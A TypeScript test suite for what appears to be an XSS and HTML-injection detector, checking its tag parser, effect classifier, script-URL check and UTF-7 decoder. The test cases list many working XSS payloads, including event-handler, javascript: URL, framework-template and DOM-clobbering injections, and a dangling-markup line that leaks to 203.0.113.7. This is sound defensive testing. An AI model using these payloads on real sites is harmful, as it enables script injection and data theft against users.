import fc from 'fast-check';
import { MAX_ATTRIBUTES, MAX_TAGS, MarkupEffect, SCRIPT_EFFECTS, isScriptUrl, markupEffects, readTags } from '@/runtime/analyzer/engine/detection/html';
import { decodeUtf7 } from '@/runtime/analyzer/engine/detection/decode';

const runsScript = (text: string) => (markupEffects(text.toLowerCase()) & SCRIPT_EFFECTS) !== 0;

describe('HTML tokenizer', () => {
  it('reads tag names and attributes as a browser does: slashes, junk, unquoted and unclosed', () => {
    const [svg] = readTags('<svg/onload=alert(1)>');
    expect(svg).toMatchObject({ name: 'svg', isEndTag: false, closed: true });
    expect(svg.attributes.map((a) => [a.name, a.value])).toEqual([['onload', 'alert(1)']]);

    const [img] = readTags('<img src="x y" alt=\'a>b\' onerror =  go() data-x>');
    expect(img.attributes.map((a) => [a.name, a.value, a.hasValue])).toEqual([
      ['src', 'x y', true],
      ['alt', 'a>b', true],
      ['onerror', 'go()', true],
      ['data-x', '', false],
    ]);

    const [cut] = readTags('<img src=x onerror=alert(1)//');
    expect(cut.closed).toBe(false);
    expect(cut.attributes.map((a) => a.name)).toEqual(['src', 'onerror']);

    expect(readTags('</ScRiPt >')[0]).toMatchObject({ name: 'script', isEndTag: true, closed: true });
    expect(readTags('a < b and 3<4 <!-- <script> -->').length).toBe(0);
  });

  it('stays within its caps on any input', () => {
    expect(readTags('<a>'.repeat(500)).length).toBe(MAX_TAGS);
    expect(readTags(`<a ${'x=1 '.repeat(200)}>`)[0].attributes.length).toBe(MAX_ATTRIBUTES);
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('<', '>', '/', '=', '"', "'", ' ', '\n', 'a', 'o', 'n', '!', '-'), maxLength: 3000 }), (s) => {
        const tags = readTags(s);
        return tags.length <= MAX_TAGS && tags.every((t) => t.attributes.length <= MAX_ATTRIBUTES && t.end <= s.length);
      }),
    );
  });
});

describe('what injected markup does', () => {
  it.each([
    ['<script>alert(1)</script>', MarkupEffect.ScriptElement],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', MarkupEffect.ScriptElement],
    ['"></textarea></script><b>', MarkupEffect.ScriptElement],
    ['<svg\nonauxclick=0;[1].some(confirm)//', MarkupEffect.EventHandler],
    ['<body onpageshow=go()>', MarkupEffect.EventHandler],
    ['<details open ontoggle="x">', MarkupEffect.EventHandler],
    ['<a href="java\tscript:alert(1)">x</a>', MarkupEffect.ScriptUrl],
    ['<a href=" \x01javascript:alert(1)">', MarkupEffect.ScriptUrl],
    ['<img src="mocha:[code]">', MarkupEffect.ScriptUrl],
    ['<form><button formaction=javascript:alert(1)>go', MarkupEffect.ScriptUrl],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', MarkupEffect.ScriptUrl],
    ['<iframe src="data:text/html;base64,PHNjcmlwdD4=">', MarkupEffect.ActiveDataUrl],
    ['<object data="data:image/svg+xml,<svg onload=alert(1)>">', MarkupEffect.ActiveDataUrl],
    ['<iframe srcdoc="<img src=x onerror=alert(1)>">', MarkupEffect.EmbeddedContent],
    ['<embed src=//203.0.113.7/x.swf>', MarkupEffect.EmbeddedContent],
    ['<link rel=stylesheet href=//203.0.113.7/x.css>', MarkupEffect.EmbeddedContent],
    ['<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', MarkupEffect.EmbeddedContent],
    ['<div style="width: expression(alert(1))">', MarkupEffect.StyleCode],
    ['<div style="background:url(\'javascript:alert(1)\')">', MarkupEffect.StyleCode],
    ['" autofocus onfocus=alert(1) x="', MarkupEffect.AttributeBreakout],
    ["x' onmouseover='prompt(1)", MarkupEffect.AttributeBreakout],
    ['</textarea>', MarkupEffect.RawTextBreakout],
    ['<b>bold</b>', MarkupEffect.Markup],
    ['<img src=x', MarkupEffect.Markup],
    ['<img/src=1', MarkupEffect.EvasiveSyntax],
    ['<img src=`x`>', MarkupEffect.EvasiveSyntax],
    ['<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=go()>', MarkupEffect.EvasiveSyntax],
    ['<img name=getElementById>', MarkupEffect.DomClobbering],
    ['<form id=x><input name=attributes></form>', MarkupEffect.DomClobbering],
    ['<a id=APP_CONFIG></a><a id=APP_CONFIG name=cdnUrl href="https://x.example/x.js"></a>', MarkupEffect.DomClobbering],
    ["<img src='//203.0.113.7/log?", MarkupEffect.DanglingMarkup],
    ['<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#h"/>', MarkupEffect.EventHandler],
    ["<input ng-focus=$event.view.alert('x') autofocus>", MarkupEffect.EventHandler],
    ["<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus>", MarkupEffect.EventHandler],
    ['<p v-html="_c.constructor(\'alert(1)\')()"></p>', MarkupEffect.EventHandler],
    ['<x @click="window.open(1)">', MarkupEffect.EventHandler],
    ['<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">go()</handler></svg>', MarkupEffect.EventHandler],
  ])('%j', (text, effect) => {
    expect(markupEffects(text.toLowerCase()) & effect).toBe(effect);
  });

  it('does not call everyday text, links and telemetry script', () => {
    for (const text of [
      'a < b and c > d',
      '#<Object>',
      '<a href="javascript:void(0)">menu</a>',
      '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
      '<a title="javascript: the good parts" href="/books/1">',
      'onclick=LO.min_chat();',
      'score=3&online=1',
      'I <3 you, see you at 5>4',
    ]) {
      expect(runsScript(text)).toBe(false);
    }
  });

  it('reads no intent into ordinary markup, paths and form fields', () => {
    const intent = MarkupEffect.EvasiveSyntax | MarkupEffect.DomClobbering | MarkupEffect.DanglingMarkup;
    for (const text of [
      '/api/v1/items/h2<h1/details',
      '<br/><img src="https://cdn.example.com/a.png"/>',
      '<input name="location" value="Berlin"><input name="cookie">',
      '<a href="https://example.com/?q=1">link</a>',
      '<img src="//cdn.example.com/a.png" alt="a">',
      '<event:handler>',
      '<button ng-click="save()">',
      '<a ng-click="(vm.showAlert)(1)">',
      '<a :href="link" @click="toggle()">',
      '<p id="intro">a</p><p id="body">b</p><a id="top" name="top"></a>',
    ]) {
      expect(markupEffects(text.toLowerCase()) & (intent | SCRIPT_EFFECTS)).toBe(0);
    }
  });

  it('tells script URLs from no-op links', () => {
    expect(isScriptUrl('javascript:alert(1)')).toBe(true);
    expect(isScriptUrl('  JaVaScRiPt:fetch(1)')).toBe(true);
    expect(isScriptUrl('vbscript:msgbox(1)')).toBe(true);
    expect(isScriptUrl('javascript:void(0)')).toBe(false);
    expect(isScriptUrl('javascript:;')).toBe(false);
    expect(isScriptUrl('https://example.com/javascript:alert')).toBe(false);
  });

  it('reads UTF-7 markup once decoded', () => {
    expect(decodeUtf7('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')).toBe('<script>alert(1)</script>');
    expect(decodeUtf7('1+-1=2')).toBe('1+1=2');
    expect(decodeUtf7('a+b')).toBe('a+b');
    fc.assert(fc.property(fc.string({ maxLength: 2000 }), (s) => decodeUtf7(s).length <= s.length));
  });

  it('never throws and terminates on arbitrary input', () => {
    fc.assert(fc.property(fc.string({ maxLength: 4000 }), (s) => Number.isInteger(markupEffects(s))));
  });
});
